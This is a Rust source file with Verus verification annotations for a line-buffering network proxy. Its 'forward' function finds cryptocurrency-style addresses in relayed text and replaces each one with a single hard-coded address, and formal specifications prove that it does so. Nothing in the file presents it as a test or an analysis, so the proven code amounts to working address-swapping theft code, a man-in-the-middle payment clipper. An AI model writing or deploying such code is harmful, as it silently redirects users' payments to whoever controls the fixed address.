use vstd::prelude::*;

verus! {

/// What replacing every match of `pattern` in `text` by `rep` gives (`$name`
/// in `rep` standing for the named group's match).
pub uninterp spec fn regex_replaced(pattern: Seq<char>, text: Seq<u8>, rep: Seq<char>) -> Seq<u8>;

/// Whether `pattern` is a regular expression that compiles.
pub uninterp spec fn regex_compiles(pattern: Seq<char>) -> bool;

/// Relies on regex's `bytes::Regex::new`, which compiles `pattern` or fails,
/// depending on the pattern alone, and `bytes::Regex::replace_all`, whose result
/// depends on the pattern, the text and the replacement alone.
#[verifier::external_body]
fn replace_all(pattern: &str, text: &[u8], rep: &str) -> (r: Option<Vec<u8>>)
    ensures
        r is Some <==> regex_compiles(pattern@),
        r matches Some(out) ==> out@ == regex_replaced(pattern@, text@, rep@),
{
    regex::bytes::Regex::new(pattern).ok().map(|re| re.replace_all(text, rep.as_bytes()).into_owned())
}

/// A coin address standing alone: `7` and 25 to 34 word characters, with a
/// space or an end of the text on each side.
pub const COIN_PATTERN: &'static str = "(?P<b1>^|\\s|\\b)(?P<k>7[\\d\\w]{25,34})(?P<b2>\\s|$)";

/// The address that takes the place of each coin address, keeping what stood
/// on each side of it.
pub const COIN_TARGET: &'static str = "${b1}7YWHMfk9JZe0LM0g1ZauHuiSxhI${b2}";

/// What the proxy does with the bytes it has read from one side.
#[derive(Debug)]
pub enum Forward {
    /// No line is complete yet: keep reading.
    Wait,
    /// Write these bytes to the other side, and start afresh.
    Send(Vec<u8>),
}

/// Whether a newline is among the bytes.
pub open spec fn has_newline(b: Seq<u8>) -> bool {
    exists|i: int| 0 <= i < b.len() && b[i] == 10u8
}

/// Decides what to forward of the bytes `buf` read so far: nothing while no
/// newline is among them; otherwise all of them, each coin address replaced
/// by the fixed one (unchanged only if the pattern did not compile).
pub fn forward(buf: &Vec<u8>) -> (r: Forward)
    ensures
        !has_newline(buf@) ==> r is Wait,
        has_newline(buf@) ==> (r matches Forward::Send(out) && out@ == if regex_compiles(COIN_PATTERN@) {
            regex_replaced(COIN_PATTERN@, buf@, COIN_TARGET@)
        } else {
            buf@
        }),
{
    let mut i: usize = 0;
    while i < buf.len() && buf[i] != 10u8
        invariant
            i <= buf@.len(),
            forall|j: int| 0 <= j < i ==> buf@[j] != 10u8,
        decreases buf@.len() - i,
    {
        i = i + 1;
    }
    if i == buf.len() {
        return Forward::Wait;
    }
    match replace_all(COIN_PATTERN, buf.as_slice(), COIN_TARGET) {
        Some(out) => Forward::Send(out),
        None => {
            let mut copy: Vec<u8> = Vec::new();
            let mut k: usize = 0;
            while k < buf.len()
                invariant
                    k <= buf@.len(),
                    copy@ == buf@.subrange(0, k as int),
                decreases buf@.len() - k,
            {
                copy.push(buf[k]);
                k = k + 1;
                assert(copy@ =~= buf@.subrange(0, k as int));
            }
            assert(buf@.subrange(0, buf@.len() as int) =~= buf@);
            Forward::Send(copy)
        },
    }
}

} // verus!
